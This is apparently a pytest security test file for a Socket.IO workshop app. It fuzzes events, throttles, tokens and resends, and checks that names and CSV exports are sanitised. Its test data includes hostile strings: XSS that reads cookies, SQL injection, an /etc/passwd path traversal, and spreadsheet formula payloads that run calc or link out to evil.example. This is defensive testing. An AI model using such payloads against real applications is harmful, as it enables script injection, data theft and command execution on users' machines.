"""Hostile and broken input through the Socket.IO test client: every event fuzzed with payloads
that must be refused, throttles, tokens used where they do not belong, one participant in two
tabs, resent submissions, hostile names and formula injection in the CSV exports.

Each fuzz test builds one small world (two sessions, phones in every situation), then sends
hypothesis-generated payloads that the protocol must refuse: every answer has the documented error
shape, the store is byte for byte what it was (``store.dump()``), and the server still serves.
"""

from __future__ import annotations

import csv
import io
import math
import string
import unicodedata
from types import SimpleNamespace

import pytest
from driver import call, create
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from facilitator import events as events_module
from facilitator import workshop
from facilitator.services import services

pytestmark = pytest.mark.faults

ERROR_CODES = {
    "bad_request", "too_large", "rate_limited", "unknown_code", "session_closed", "bad_token",
    "forbidden", "wrong_step", "step_closed", "awaiting_discard", "invalid_answer", "not_found",
    "confirm_required",
}
ANSWER_RULES = {
    "not_a_statement", "duplicate_statement", "discarded_statement", "wrong_length",
    "missing_statement", "not_an_integer", "not_a_list",
}
PROTOCOL_FIELDS = {
    "code", "name", "group", "token", "step", "answer", "id", "projector", "revealed",
    "statement", "participant", "confirm",
}
KNOWN_EVENTS = {
    "join", "resume", "submit", "watch", "facilitate", "open_step", "close_step", "reveal",
    "settle", "remove_participant", "reset_session", "close_session",
}
GROUP1_REMAINING = [1, 2, 4, 5, 6, 7, 8, 9, 10]  # group 1 discarded statement 3


# -- helpers ---------------------------------------------------------------------------------
def assert_refused(ack) -> None:
    """The protocol's one error shape, with a documented code and a message for a person."""
    assert isinstance(ack, dict) and set(ack) == {"ok", "error"}, ack
    assert ack["ok"] is False
    error = ack["error"]
    assert set(error) <= {"code", "message", "rule"}, error
    assert error["code"] in ERROR_CODES, error
    assert isinstance(error["message"], str) and error["message"].strip()
    assert "Traceback" not in error["message"]
    if "rule" in error:
        assert error["code"] == "invalid_answer" and error["rule"] in ANSWER_RULES


class World:
    """Two sessions with phones in every situation the fuzzers need.

    Session A (groups 1–3) is in an open rank step: group 1 discarded 3 (phones a1, a2, a3; a1 has
    ranked), group 2 is tied between 4 and 6 (b1, b2), group 3 discarded 7 (c1); d1 was removed.
    Session B is closed, with one phone z1.
    """

    def __init__(self, app):
        self.app = app
        self.socketio = services(app).socketio
        self.store = services(app).store
        self.guard = services(app).guard
        http = app.test_client()
        self.a = create(http, groups=["Table 1", "Table 2", "Table 3"])
        self.b = create(http, groups=["Table 1"])
        self.console = self.socketio.test_client(app)
        self.tokens: dict[str, str] = {}
        for who, group in (("a1", 1), ("a2", 1), ("a3", 1), ("b1", 2), ("b2", 2), ("c1", 3),
                           ("d1", 3)):
            self.join(self.a, who, group)
        self.control(self.a, "open_step", step="discard")
        for who, vote in (("a1", 3), ("a2", 3), ("a3", 5), ("b1", 4), ("b2", 6), ("c1", 7),
                          ("d1", 7)):
            assert self.submit(who, "discard", vote, f"{who}-discard")["ok"]
        self.control(self.a, "remove_participant", participant=7)
        self.control(self.a, "close_step")
        self.control(self.a, "open_step", step="rank")
        assert self.submit("a1", "rank", GROUP1_REMAINING[::-1], "a1-rank")["ok"]
        self.join(self.b, "z1", 1)
        self.control(self.b, "close_session")
        self.fuzzer = self.socketio.test_client(app)
        self.before = self.store.dump()
        self.versions = {s.id: s.version for s in self.store.sessions.values()}

    def join(self, info, who, group):
        sock = self.socketio.test_client(self.app)
        ack = call(sock, "join", {"code": info["code"], "name": who, "group": group})
        assert ack["ok"], ack
        self.tokens[who] = ack["token"]

    def control(self, info, event, **data):
        self.guard.buckets.clear()
        ack = call(self.console, event, {"token": info["facilitator_token"], **data})
        assert ack["ok"], ack
        return ack

    def submit(self, who, step, answer, sid):
        self.guard.buckets.clear()
        return call(self.console, "submit",
                    {"token": self.tokens[who], "step": step, "answer": answer, "id": sid})

    # every credential that exists in the world, for "wrong token" pools
    def credentials(self) -> list[str]:
        return [*self.tokens.values(), self.a["facilitator_token"], self.b["facilitator_token"],
                self.a["projector_key"], self.b["projector_key"]]

    def send(self, event: str, args: tuple):
        """One fuzz case: fresh throttles (so the fuzzer is never merely rate limited)."""
        self.guard.buckets.clear()
        self.guard.join_failures.clear()
        return call(self.fuzzer, event, *args)

    def assert_unchanged_and_serving(self) -> None:
        assert self.store.dump() == self.before
        assert {s.id: s.version for s in self.store.sessions.values()} == self.versions
        self.guard.buckets.clear()
        ack = call(self.fuzzer, "resume", {"token": self.tokens["a2"]})
        assert ack["ok"] and ack["state"]["answers"]["rank"] is None


@pytest.fixture
def world(app):
    return World(app)


# -- strategies ------------------------------------------------------------------------------
MISSING = object()  # "leave this field out"

HOSTILE_TEXT = st.sampled_from([
    "<script>alert(1)</script>", '<img src=x onerror="alert(1)">', '=HYPERLINK("http://x")',
    "+1+1", "@SUM(A1)", "\u202eevil", "a\u200bb\u200cc\ufeff", "'; DROP TABLE answers; --",
    "../../etc/passwd", "\x00\x01\x1b[31m", "%s%n%x", "\U0001F469\u200d\U0001F469\u200d\U0001F467",
    "null", "true", "[1,2,3]", "{}", " ", "", "\ud7ff", "\U0010ffff",
])
SCALARS = (st.none() | st.booleans() | st.integers(-(2**70), 2**70)
           | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=30) | HOSTILE_TEXT)
JSON = st.recursive(
    SCALARS,
    lambda inner: st.lists(inner, max_size=6) | st.dictionaries(st.text(max_size=10), inner,
                                                                  max_size=6),
    max_leaves=12,
)


def _nested(depth: int) -> list:
    value: list = [1]
    for _ in range(depth):
        value = [value]
    return value


HUGE = st.one_of(
    st.integers(17_000, 60_000).map(lambda n: "A" * n),
    st.integers(2_000, 30_000).map(lambda n: [1] * n),
    st.integers(2_000, 6_000).map(lambda n: list(range(n))),
    st.integers(300, 2_000).map(lambda n: {f"k{i}": i for i in range(n)}),
    st.integers(20, 300).map(_nested),
    # longer numbers never reach a handler: engineio's JSON refuses ints over 100 digits
    # (tests/test_faults.py sends them to the real server)
    st.integers(10**30, 10**99),
)
ANYTHING = st.one_of(JSON, HUGE)


def not_a(*types):
    """Any value that is not of ``types`` (bool counts as its own type, not int)."""
    def wrong(v):
        if isinstance(v, bool):
            return bool not in types
        return not isinstance(v, types)
    return ANYTHING.filter(wrong)


def missing_or(*strategies):
    return st.one_of(st.just(MISSING), *strategies)


def ints_except(allowed) -> st.SearchStrategy:
    return st.one_of(st.integers(-(2**40), 2**40), st.integers(-3, 13)).filter(
        lambda v: v not in allowed)


@st.composite
def payload(draw, fields: dict[str, tuple[st.SearchStrategy, st.SearchStrategy]],
            extra_keys: st.SearchStrategy | None = None) -> dict:
    """An object where at least one field is invalid (missing, wrong type, wrong value); the
    other fields are valid, and unknown fields may be added."""
    names = sorted(fields)
    # mostly one bad field, so every check is reached, not just the first one in line
    bad = {draw(st.sampled_from(names))}
    if draw(st.integers(0, 4)) == 0:
        bad |= draw(st.sets(st.sampled_from(names)))
    data = {}
    for name, (valid, invalid) in fields.items():
        value = draw(invalid if name in bad else valid)
        if value is not MISSING:
            data[name] = value
    keys = extra_keys
    if keys is None:
        keys = st.text(max_size=12).filter(lambda k: k not in PROTOCOL_FIELDS)
    data.update(draw(st.dictionaries(keys, ANYTHING, max_size=3)))
    return data


def arguments(objects: st.SearchStrategy) -> st.SearchStrategy:
    """What a client emits with the event: usually one object, sometimes no payload, a
    non-object, or one object too many."""
    odd = st.one_of(
        st.just(()),
        ANYTHING.filter(lambda v: not isinstance(v, dict)).map(lambda v: (v,)),
        st.tuples(objects, ANYTHING),
    )
    return st.integers(0, 5).flatmap(lambda k: odd if k == 0 else objects.map(lambda d: (d,)))


def fuzz_settings(n: int):
    return settings(max_examples=n, deadline=None, database=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much,
                                           HealthCheck.data_too_large])


def run_refusals(world: World, event: str, objects: st.SearchStrategy, n: int) -> int:
    """Send ``n`` generated payloads that must all be refused; returns how many ran."""
    ran = 0

    @fuzz_settings(n)
    @given(args=arguments(objects))
    def case(args):
        nonlocal ran
        ran += 1
        assert_refused(world.send(event, args))
        world.assert_unchanged_and_serving()

    case()
    return ran


def foreign_token(world: World, allowed: set[str]) -> st.SearchStrategy:
    """A token that is not one of ``allowed``: missing, wrong type, made up, or another role's."""
    others = sorted(set(world.credentials()) - allowed)
    made_up = st.text(alphabet=string.ascii_letters + string.digits + "-_", max_size=40)
    return missing_or(
        not_a(str), made_up.filter(lambda t: t not in allowed), st.sampled_from(others),
        st.sampled_from(others).map(lambda t: t + "x"), st.sampled_from(others).map(str.upper),
        HOSTILE_TEXT,
    )


# -- fuzzing each event ----------------------------------------------------------------------
def test_malformed_joins_are_refused_and_change_nothing(world):
    code = world.a["code"]
    valid_codes = st.sampled_from([code, code.lower(), " ".join(code), f"{code[:4]}-{code[4:]}"])
    unknown_codes = st.text(alphabet=workshop.CODE_ALPHABET, min_size=8, max_size=8).filter(
        lambda c: c not in (world.a["code"], world.b["code"]))
    fields = {
        "code": (valid_codes, missing_or(
            not_a(str), st.text(max_size=50), unknown_codes, st.just(world.b["code"]),
            st.just(code + "2"), st.just(code[:-1]), HUGE.filter(lambda v: isinstance(v, str)))),
        "name": (missing_or(st.none(), st.text(max_size=60), HOSTILE_TEXT), not_a(str, type(None))),
        "group": (missing_or(st.none(), st.sampled_from([1, 2, 3])),
                  st.one_of(not_a(int, type(None)), ints_except({1, 2, 3}))),
    }
    assert run_refusals(world, "join", payload(fields), 300) >= 250


def test_malformed_submits_are_refused_and_change_nothing(world):
    """Wrong types, unknown statements, duplicates, the discarded statement, the wrong step,
    huge lists, unknown, removed, tied-group and closed-session tokens, another role's token,
    and fields naming another participant or session."""
    valid_tokens = {world.tokens[w] for w in ("a1", "a2", "a3")}
    printable_ids = st.text(alphabet=string.printable.strip() + " ", min_size=1, max_size=64)
    perms = st.permutations(GROUP1_REMAINING)
    bad_answers = st.one_of(
        not_a(list),
        st.lists(ANYTHING, max_size=12).filter(lambda xs: any(type(x) is not int for x in xs)),
        perms.map(lambda p: [3, *p[1:]]),                          # the discarded statement
        perms.map(lambda p: [p[1], *p[1:]]),                        # a duplicate
        perms.map(lambda p: list(p[:-1])),                          # one missing
        perms.map(lambda p: [*p, 3]),                               # one too many
        st.tuples(perms, st.sampled_from([0, 11, -1, 10**12, 3])).map(
            lambda t: [t[1], *t[0][1:]]),                           # an unknown statement
        perms.map(lambda p: [float(x) for x in p]),
        perms.map(lambda p: [str(x) for x in p]),
        perms.map(lambda p: [True, *p[1:]]),
        st.lists(st.integers(-5, 15), max_size=12).filter(
            lambda xs: sorted(xs) != GROUP1_REMAINING),
        st.integers(10, 20_000).map(lambda n: GROUP1_REMAINING * n),
        st.just([]),
    )
    fields = {
        "token": (st.sampled_from(sorted(valid_tokens)), st.one_of(
            # a tied group's phone, a closed session's phone, a removed phone
            st.sampled_from([world.tokens[w] for w in ("b1", "b2", "z1", "d1")]),
            foreign_token(world, valid_tokens))),
        "step": (st.just("rank"), missing_or(
            st.sampled_from(["discard", "top"]),
            st.sampled_from(["lobby", "similarities", "results", "Rank", "rank ", "RANK", ""]),
            ANYTHING.filter(lambda v: v != "rank"))),
        "answer": (perms.map(list), missing_or(bad_answers)),
        "id": (printable_ids.filter(lambda i: i != "a1-rank"), missing_or(
            not_a(str), st.just(""), st.integers(65, 20_000).map(lambda n: "i" * n),
            st.text(min_size=1, max_size=64).filter(
                lambda i: not (i.isascii() and i.isprintable())))),
    }
    impersonation = st.sampled_from(["participant", "session", "group", "code", "number"])
    objects = st.one_of(payload(fields), payload(fields, extra_keys=impersonation))
    assert run_refusals(world, "submit", objects, 450) >= 400


@pytest.mark.parametrize("event, fields_of", [
    ("open_step", lambda w: {"step": (st.sampled_from(workshop.STEPS), missing_or(
        ANYTHING.filter(lambda v: v not in workshop.STEPS),
        st.sampled_from(["Rank", "rank ", "lobby\x00", "vote", ""])))}),
    ("close_step", lambda w: {}),
    ("close_session", lambda w: {}),
    ("reveal", lambda w: {"revealed": (st.booleans(), missing_or(not_a(bool), st.sampled_from(
        [0, 1, "true", "false", None])))}),
    ("settle", lambda w: {
        "group": (st.just(2), missing_or(not_a(int), ints_except({2}), st.just(2.0))),
        # 4.0 (a float equal to a tied statement) has its own xfail test below
        "statement": (st.sampled_from([4, 6]), missing_or(
            not_a(int).filter(lambda v: v not in (4, 6)), ints_except({4, 6}),
            st.sampled_from(["4", [4], 5.0])))}),
    ("remove_participant", lambda w: {"participant": (
        st.sampled_from([1, 2, 3, 4, 5, 6]),
        missing_or(not_a(int), ints_except({1, 2, 3, 4, 5, 6}), st.sampled_from(
            [7, 1.0, "1", [1], True])))}),
    ("reset_session", lambda w: {"confirm": (st.just("RESET"), missing_or(
        ANYTHING.filter(lambda v: v != "RESET"), st.sampled_from(["reset", "RESET ", "Reset"])))}),
])
def test_malformed_facilitator_events_are_refused_and_change_nothing(world, event, fields_of):
    """Every console event with a wrong field or a token that is not a facilitator's (a phone's,
    a projector's, made up, missing). Session B's token only ever meets its closed session."""
    facilitators = {world.a["facilitator_token"], world.b["facilitator_token"]}
    fields = {"token": (st.sampled_from(sorted(facilitators)), foreign_token(world, facilitators)),
              **fields_of(world)}
    assert run_refusals(world, event, payload(fields), 180) >= 150


@pytest.mark.parametrize("event, field, accepted", [
    ("resume", "token", lambda w: {t for who, t in w.tokens.items() if who != "d1"}),
    ("watch", "projector", lambda w: {w.a["projector_key"], w.b["projector_key"]}),
    ("facilitate", "token", lambda w: {w.a["facilitator_token"], w.b["facilitator_token"]}),
])
def test_read_only_events_answer_ok_or_refuse_and_never_change_the_store(world, event, field,
                                                                        accepted):
    """resume, watch and facilitate change nothing even when they succeed: exactly the right
    credential gets ``ok``, anything else the error shape."""
    good = accepted(world)
    tokens = st.one_of(st.sampled_from(sorted(good)), foreign_token(world, good))
    good = sorted(good)  # a list: a fuzzed token may be unhashable
    objects = st.builds(
        lambda token, extra: {**({} if token is MISSING else {field: token}), **extra},
        tokens, st.dictionaries(st.text(max_size=10).filter(lambda k: k != field), ANYTHING,
                                max_size=3))
    ran = 0

    @fuzz_settings(160)
    @given(args=arguments(objects))
    def case(args):
        nonlocal ran
        ran += 1
        ack = world.send(event, args)
        if len(args) == 1 and isinstance(args[0], dict) and args[0].get(field) in good:
            assert ack["ok"] is True
        else:
            assert_refused(ack)
        world.assert_unchanged_and_serving()

    case()
    assert ran >= 140


def test_unknown_events_are_answered_with_bad_request(world):
    names = st.one_of(st.text(min_size=1, max_size=40), st.sampled_from(
        ["Join", "submit ", "admin", "__proto__", "constructor", "snapshot", "state", "json",
         "message", "eval", "SUBMIT", "*"])).filter(lambda e: e not in KNOWN_EVENTS | {"connect",
                                                                                  "disconnect"})
    ran = 0

    @fuzz_settings(200)
    @given(event=names, args=st.lists(ANYTHING, max_size=2).map(tuple))
    def case(event, args):
        nonlocal ran
        ran += 1
        ack = world.send(event, args)
        assert_refused(ack)
        assert ack["error"]["code"] == "bad_request"
        world.assert_unchanged_and_serving()

    case()
    assert ran >= 180


@pytest.mark.parametrize("args", [(), ("x",), ([1] * 2000,), ("A" * 17000,), ({"token": "t"}, 2)])
def test_an_event_named_star_is_refused_like_any_unknown_event(world, args):
    """python-socketio hands an event literally named "*" to the catch-all without its name;
    hypothesis found it answering ['', 400] or raising, depending on the payload."""
    ack = world.send("*", args)
    assert_refused(ack)
    assert ack["error"]["code"] == "bad_request"
    world.assert_unchanged_and_serving()


def test_settle_refuses_a_float_that_equals_a_tied_statement(world):
    ack = call(world.console, "settle", {"token": world.a["facilitator_token"], "group": 2,
                                         "statement": 4.0})
    assert_refused(ack)
    world.assert_unchanged_and_serving()


# -- throttles -------------------------------------------------------------------------------
def test_a_phone_cannot_reset_its_throttle_by_sending_a_disconnect_event(world):
    """python-socketio dispatches a client's event named "disconnect" to the app's disconnect
    handler while the socket stays connected; Guard.forget then refills its bucket."""
    sock = world.socketio.test_client(world.app)
    codes = []
    for i in range(100):
        if i % 20 == 19:
            sock.emit("disconnect", {})
        ack = call(sock, "resume", {"token": world.tokens["a2"]})
        codes.append(ack.get("error", {}).get("code"))
    assert sock.is_connected()
    assert codes.count("rate_limited") >= 50


def from_address(sock, address: str):
    """Make a test client's later events come from ``address``."""
    sock.socketio.server.environ[sock.eio_sid]["REMOTE_ADDR"] = address
    return sock


def test_wrong_join_codes_are_throttled_per_address_for_a_minute(world, monkeypatch):
    now = [1000.0]
    monkeypatch.setattr(events_module, "time", SimpleNamespace(monotonic=lambda: now[0]))
    monkeypatch.setattr(world.guard.join_failures, "clock", lambda: now[0])
    world.guard.join_failures.clear()
    guesser = from_address(world.socketio.test_client(world.app), "10.0.0.66")
    other = from_address(world.socketio.test_client(world.app), "10.0.0.7")
    for i in range(events_module.JOIN_FAILURES):
        now[0] += 1
        ack = call(guesser, "join", {"code": f"ZZZZZZ{workshop.CODE_ALPHABET[i]}2"})
        assert ack["error"]["code"] == "unknown_code"
    before = world.store.dump()
    # the eleventh try is refused before the code is even looked at, the right one too
    ack = call(guesser, "join", {"code": world.a["code"]})
    assert_refused(ack)
    assert ack["error"]["code"] == "rate_limited"
    assert world.store.dump() == before
    # a new socket from the same address does not escape
    again = from_address(world.socketio.test_client(world.app), "10.0.0.66")
    assert call(again, "join", {"code": world.a["code"]})["error"]["code"] == "rate_limited"
    # another phone in the room is not affected
    assert call(other, "join", {"code": world.a["code"], "name": "Ola"})["ok"]
    # a minute after the first wrong code, the guesser may try again
    now[0] += events_module.JOIN_WINDOW - events_module.JOIN_FAILURES + 2
    assert call(guesser, "join", {"code": world.a["code"]})["ok"]


def test_join_codes_are_unguessable():
    """At least 30 bits, drawn from the system's CSPRNG, from an alphabet without look-alikes;
    with 10 tries a minute per address, one address needs ~10^9 hours for even odds."""
    space = len(workshop.CODE_ALPHABET) ** workshop.CODE_LENGTH
    assert math.log2(space) >= 30
    assert not set("01ILOU") & set(workshop.CODE_ALPHABET)
    codes = [workshop.new_join_code() for _ in range(5000)]
    assert len(set(codes)) == len(codes)
    assert all(len(c) == workshop.CODE_LENGTH and set(c) <= set(workshop.CODE_ALPHABET)
               for c in codes)
    # every symbol turns up in every position (no stuck characters)
    for position in range(workshop.CODE_LENGTH):
        assert {c[position] for c in codes} == set(workshop.CODE_ALPHABET)
    hours_for_even_odds = space / 2 / (events_module.JOIN_FAILURES * 60)
    assert hours_for_even_odds > 10**8


def test_a_closed_sessions_code_stops_working(world):
    sock = world.socketio.test_client(world.app)
    before = world.store.dump()
    ack = call(sock, "join", {"code": world.b["code"], "name": "late"})
    assert_refused(ack)
    assert ack["error"]["code"] == "session_closed"
    assert call(sock, "submit", {"token": world.tokens["z1"], "step": "discard", "answer": 1,
                                 "id": "late"})["error"]["code"] == "session_closed"
    assert world.store.dump() == before


# -- tokens and roles ------------------------------------------------------------------------
def test_a_socket_is_never_trusted_for_a_token_it_sent_before(world):
    """The console socket that identified itself with a good token, and a phone's socket that
    joined, are still refused when a later event carries no token or a wrong one."""
    console, phone = world.socketio.test_client(world.app), world.socketio.test_client(world.app)
    assert call(console, "facilitate", {"token": world.a["facilitator_token"]})["ok"]
    assert call(phone, "resume", {"token": world.tokens["a2"]})["ok"]
    for token in (None, "", world.a["projector_key"], world.tokens["a2"]):
        ack = call(console, "open_step", {"step": "top", **({"token": token} if token else {})})
        assert_refused(ack)
    for payload_ in ({"step": "rank", "answer": GROUP1_REMAINING, "id": "no-token"},
                     {"token": world.a["facilitator_token"], "step": "rank",
                      "answer": GROUP1_REMAINING, "id": "console-token"}):
        assert_refused(call(phone, "submit", payload_))
    world.assert_unchanged_and_serving()


@pytest.mark.parametrize("event", ["open_step", "close_step", "reveal", "settle",
                                   "remove_participant", "reset_session", "close_session",
                                   "facilitate"])
def test_a_phone_that_joined_cannot_send_console_events_from_its_own_socket(world, event):
    """The phone's own socket (in its participant room), not a bystander socket, with its own
    token, the projector key it can read off the screen, or the console token of its session
    guessed wrong by one character."""
    data = {"open_step": {"step": "results"}, "reveal": {"revealed": True},
            "settle": {"group": 2, "statement": 4}, "remove_participant": {"participant": 2},
            "reset_session": {"confirm": "RESET"}}.get(event, {})
    phone = world.socketio.test_client(world.app)
    assert call(phone, "resume", {"token": world.tokens["a2"]})["ok"]
    fac = world.a["facilitator_token"]
    for token in (world.tokens["a2"], world.a["projector_key"], fac[:-1] + ("A" if fac[-1] != "A"
                                                                              else "B")):
        ack = call(phone, event, {"token": token, **data})
        assert_refused(ack)
        assert ack["error"]["code"] in ("forbidden", "bad_token")
    world.assert_unchanged_and_serving()


def test_session_a_facilitator_token_controls_only_session_a(app):
    """Fields naming session B (its id, code, groups, participants) are ignored: A's token acts
    on A or is refused, and B's phones, console and projector hear nothing."""
    socketio = services(app).socketio
    store = services(app).store
    http = app.test_client()
    a, b = create(http, groups=["A1"]), create(http, groups=["B1", "B2"])
    session_b = store.by_code(b["code"])
    console_b, projector_b, phone_b = (socketio.test_client(app) for _ in range(3))
    assert call(console_b, "facilitate", {"token": b["facilitator_token"]})["ok"]
    assert call(projector_b, "watch", {"projector": b["projector_key"]})["ok"]
    joined = call(phone_b, "join", {"code": b["code"], "group": 2})
    assert joined["ok"]
    for sock in (console_b, projector_b, phone_b):
        sock.get_received()
    b_before = (store.dump()["participants"], session_b.version, session_b.step)
    console_a = socketio.test_client(app)
    naming_b = {"session": session_b.id, "code": b["code"], "projector": b["projector_key"]}
    token = {"token": a["facilitator_token"], **naming_b}
    assert call(console_a, "remove_participant", {**token, "participant": 1})["error"][
        "code"] == "not_found"
    assert call(console_a, "settle", {**token, "group": 2, "statement": 1})["error"][
        "code"] == "not_found"
    assert call(console_a, "open_step", {**token, "step": "discard"})["ok"]
    assert call(console_a, "reveal", {**token, "revealed": True})["ok"]
    assert call(console_a, "close_session", token)["ok"]
    assert store.by_code(a["code"]).closed and not session_b.closed
    assert (store.dump()["participants"], session_b.version, session_b.step) == b_before
    for sock in (console_b, projector_b, phone_b):
        assert sock.get_received() == []
    exported = http.get(f"/facilitator/{a['facilitator_token']}/export/responses.csv")
    assert b["code"] not in exported.get_data(as_text=True)
    assert call(phone_b, "resume", {"token": joined["token"]})["ok"]


# -- resends and tabs ------------------------------------------------------------------------
def test_a_late_resend_of_an_old_submission_does_not_overwrite_a_newer_answer(world):
    """Lost acknowledgement: a phone resends a submit whose ack it never saw, after it already
    changed its answer. Same id: stored once, and the newer answer stays."""
    first, second = GROUP1_REMAINING, GROUP1_REMAINING[::-1]
    assert world.submit("a2", "rank", first, "r-1")["duplicate"] is False
    assert world.submit("a2", "rank", second, "r-2")["duplicate"] is False
    dump = world.store.dump()
    late = world.submit("a2", "rank", first, "r-1")
    assert late["ok"] and late["duplicate"] is True and late["answers"]["rank"] == second
    assert world.store.dump() == dump
    # even with a different answer under the same id, nothing new is stored
    assert world.submit("a2", "rank", [9, 8, 7, 6, 5, 4, 2, 1, 10], "r-2")["duplicate"] is True
    assert world.store.dump() == dump


def test_another_participants_submission_id_is_not_a_duplicate_for_me(world):
    """Submission ids are per participant: a2 reusing a1's id is stored for a2, and a1's answer
    is untouched."""
    a1_answers = dict(world.store.by_participant(world.tokens["a1"])[1].answers)
    ack = world.submit("a2", "rank", GROUP1_REMAINING, "a1-rank")
    assert ack["ok"] and ack["duplicate"] is False and ack["answers"]["rank"] == GROUP1_REMAINING
    assert world.store.by_participant(world.tokens["a1"])[1].answers == a1_answers


def test_a_phone_cannot_answer_for_another_participant_by_naming_them(world):
    """Fields naming another participant are ignored: the answer goes to the token's owner."""
    a3 = world.store.by_participant(world.tokens["a3"])[1]
    before = dict(a3.answers)
    ack = call(world.fuzzer, "submit", {
        "token": world.tokens["a2"], "step": "rank", "answer": GROUP1_REMAINING, "id": "mine",
        "participant": a3.number, "participant_id": a3.number, "group": 2})
    assert ack["ok"]
    assert world.store.by_participant(world.tokens["a2"])[1].answers["rank"] == GROUP1_REMAINING
    assert a3.answers == before


def test_one_participant_in_two_tabs_both_get_pushes_and_the_last_write_wins(world):
    """docs/protocol.md: both tabs are that participant, both get pushes, the latest
    acknowledged submit counts."""
    token = world.tokens["a3"]
    tab1, tab2 = world.socketio.test_client(world.app), world.socketio.test_client(world.app)
    s1 = call(tab1, "resume", {"token": token})["state"]
    s2 = call(tab2, "resume", {"token": token})["state"]
    assert s1 == s2 and s1["participant"]["name"] == "a3"
    one, two = GROUP1_REMAINING, GROUP1_REMAINING[::-1]
    ack1 = call(tab1, "submit", {"token": token, "step": "rank", "answer": one, "id": "tab1"})
    ack2 = call(tab2, "submit", {"token": token, "step": "rank", "answer": two, "id": "tab2"})
    assert ack1["ok"] and ack2["ok"] and ack2["version"] > ack1["version"]
    assert ack2["answers"]["rank"] == two
    assert world.store.by_participant(token)[1].answers["rank"] == two
    assert len([r for r in world.store.dump()["answers"] if r[2] == "rank"]) == 2  # a1 and a3
    tab1.get_received()
    tab2.get_received()
    world.control(world.a, "close_step")
    for tab in (tab1, tab2):
        states = [e["args"][0] for e in tab.get_received() if e["name"] == "state"]
        assert len(states) == 1
        assert states[0]["session"]["open"] is False and states[0]["answers"]["rank"] == two
    # a fresh look from the first tab shows the second tab's answer
    assert call(tab1, "resume", {"token": token})["state"]["answers"]["rank"] == two


# -- hostile names ---------------------------------------------------------------------------
HOSTILE_NAMES = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(document.cookie)">',
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\u202eevil.exe\u202c",
    "Z\u200be\u200cr\u200do\ufeff width\u2060",
    "x" * 10_000,
    "\U0001F469\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466 \U0001F389 Ana",
    "\t=1+1",
    "\r\n@import",
    "  \u00a0 +44 20 7946 0958",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def is_plain_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formulas(data: bytes) -> list[list[str]]:
    """No cell of the CSV can start a spreadsheet formula (numbers like -0.5 are fine)."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            assert not (cell.startswith(FORMULA_START) and not is_plain_number(cell)), cell
    return rows


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=range(len(HOSTILE_NAMES)))
def test_a_hostile_name_is_stored_capped_and_as_plain_text(app, name):
    socketio = services(app).socketio
    store = services(app).store
    info = create(app.test_client(), groups=["Table 1"])
    phone = socketio.test_client(app)
    ack = call(phone, "join", {"code": info["code"], "name": name})
    assert ack["ok"]
    shown = ack["state"]["participant"]["name"]
    assert 0 < len(shown) <= workshop.NAME_MAX
    assert shown == shown.strip()
    assert not any(unicodedata.category(ch) in ("Cc", "Cf") and ch != "\u200d" for ch in shown)
    assert shown == store.by_participant(ack["token"])[1].name  # as stored, no markup added
    assert call(phone, "resume", {"token": ack["token"]})["state"]["participant"]["name"] == shown


def test_hostile_names_keep_what_a_person_would_read():
    clean = workshop.clean_text
    assert clean("<script>alert(1)</script>", 40) == "<script>alert(1)</script>"
    assert clean("\u202eevil.exe\u202c", 40) == "evil.exe"
    assert clean("Z\u200be\u200cr\u200do\ufeff width\u2060", 40) == "Zer\u200do width"
    family = "\U0001F469\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466"
    assert clean(f"{family} Ana", 40) == f"{family} Ana"
    assert clean("x" * 10_000, 40) == "x" * 40
    assert clean("\u200d\u200d", 40) == ""


def test_hostile_names_and_group_names_are_neutralised_in_every_csv_export(app):
    """Participant names (the responses.csv ``name`` column) and trainer-chosen group names (all
    three files) never reach a spreadsheet as formulas."""
    socketio = services(app).socketio
    http = app.test_client()
    groups = ['=HYPERLINK("http://evil.example","x")', "+Table", "@Table", "-Table", "Table 5"]
    info = create(http, groups=groups)
    console = socketio.test_client(app)
    control = {"token": info["facilitator_token"]}
    assert call(console, "open_step", {**control, "step": "discard"})["ok"]
    phones = []
    for i, name in enumerate(HOSTILE_NAMES):
        phone = socketio.test_client(app)
        ack = call(phone, "join", {"code": info["code"], "name": name, "group": 1 + i % 5})
        assert ack["ok"]
        assert call(phone, "submit", {"token": ack["token"], "step": "discard", "answer": 1 + i % 2,
                                      "id": "d"})["ok"]
        phones.append((phone, ack["token"]))
    assert call(console, "open_step", {**control, "step": "rank"})["ok"]
    base = f"/facilitator/{info['facilitator_token']}/export/"
    responses = assert_no_formulas(http.get(base + "responses.csv").get_data())
    header = responses[0]
    names = [row[header.index("name")] for row in responses[1:]]
    assert any(n.startswith("'=HYPERLINK(") for n in names)
    assert any(n.startswith("'+cmd") for n in names) and any(n.startswith("'@SUM") for n in names)
    assert any(n.startswith("'-2+3") for n in names)
    assert "<script>alert(1)</script>" in names  # CSV is not HTML: kept as typed
    assert all(len(n) <= workshop.NAME_MAX + 1 for n in names)
    assert {row[header.index("group")] for row in responses[1:]} == {
        "'" + groups[0], "'+Table", "'@Table", "'-Table", "Table 5"}
    for kind in ("summary", "groups"):
        rows = assert_no_formulas(http.get(base + f"{kind}.csv").get_data())
        group_column = rows[0].index("group")
        assert "'" + groups[0] in {row[group_column] for row in rows[1:]}


def test_names_in_the_console_snapshot_are_data_not_markup(app):
    """The server never builds HTML from names: they travel as JSON strings, exactly as
    stored, for the pages to set with textContent (the browser test checks the pages)."""
    socketio = services(app).socketio
    info = create(app.test_client(), groups=["Table 1"])
    console = socketio.test_client(app)
    assert call(console, "facilitate", {"token": info["facilitator_token"]})["ok"]
    phone = socketio.test_client(app)
    assert call(phone, "join", {"code": info["code"], "name": HOSTILE_NAMES[1]})["ok"]
    snap = [e["args"][0] for e in console.get_received() if e["name"] == "snapshot"][-1]
    assert snap["groups"][0]["participants"][0]["name"] == HOSTILE_NAMES[1][:40].strip()


